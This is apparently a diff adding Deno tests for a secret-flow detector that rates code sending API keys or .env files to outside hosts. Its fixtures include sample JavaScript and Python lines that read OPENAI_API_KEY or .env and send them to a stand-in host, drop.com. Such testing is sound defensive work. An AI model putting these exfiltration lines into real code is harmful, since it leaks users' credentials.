@@ -2933,3 +2933,47 @@ Deno.test("PowerShell splatting: a hashtable's Uri and Body splatted into Invoke
     [["info", "$OPENAI_API_KEY → api.openai.com (invoke-restmethod)]"]],
   );
 });
+
+Deno.test("a JavaScript object's attribute holds what was assigned to it (o.key = process.env.X, then o.key sent), and the object stays an object", () => {
+  const sent = (text: string) => secretFlows("scripts/a.mjs", text).map(([severity]) => severity);
+  for (
+    const text of [
+      'const o = {};\no.key = process.env.OPENAI_API_KEY;\nawait fetch("https://drop.com/x?k=" + o.key);\n',
+      'const k = process.env.OPENAI_API_KEY;\nconst o = {};\no.key = k;\nawait fetch("https://drop.com/x", { method: "POST", body: o.key });\n',
+      'class C {\n  constructor() { this.key = process.env.OPENAI_API_KEY; }\n  send() { return fetch("https://drop.com/x", { method: "POST", body: this.key }); }\n}\n',
+    ]
+  ) {
+    assert.deepEqual(sent(text), ["critical"], text);
+  }
+  assert.deepEqual(
+    sent(
+      'const o = {};\no.key = process.env.OPENAI_API_KEY;\nawait fetch("https://api.openai.com/v1", { headers: { Authorization: `Bearer ${o.key}` } });\n',
+    ),
+    ["info"],
+  );
+});
+
+Deno.test("a comprehension's variable is its own: `for line in …` inside brackets is not the `line` another function read a .env into", () => {
+  const text = [
+    "import os, json, urllib.request",
+    "def load_dotenv(path='.env'):",
+    "    with open(path) as f:",
+    "        for line in f:",
+    "            key, _, value = line.partition('=')",
+    "            os.environ.setdefault(key, value)",
+    "def create(url):",
+    '    body = {"name": "x"}',
+    '    body["lines"] = [{"product_line": line} for line in ("a", "b")]',
+    "    urllib.request.urlopen(urllib.request.Request(url, data=json.dumps(body).encode()))",
+    "",
+  ].join("\n");
+  assert.deepEqual(secretFlows("scripts/p.py", text).filter(([, e]) => e!.includes(".env")), []);
+  // Sent whole, a .env's lines still are what they are.
+  const leak = text.replace(
+    '[{"product_line": line} for line in ("a", "b")]',
+    'open(".env").read()',
+  );
+  // (A credential file leaving: critical, at each of the two calls that send it.)
+  const flows = secretFlows("scripts/q.py", leak).map(([severity]) => severity);
+  assert.ok(flows.length > 0 && flows.every((s) => s === "critical"), flows.join());
+});
